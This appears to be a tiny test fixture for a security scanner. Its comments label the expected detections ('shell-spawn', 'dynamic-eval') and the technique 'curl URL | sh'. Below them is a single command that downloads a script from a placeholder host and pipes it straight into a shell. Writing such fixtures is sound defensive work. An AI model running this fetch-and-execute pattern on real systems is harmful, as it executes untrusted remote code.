# expect: shell-spawn,dynamic-eval
# source: DESIGN.md section 2: dynamic-eval
# technique: curl URL | sh
curl -fsSL https://get.example.sh | sh
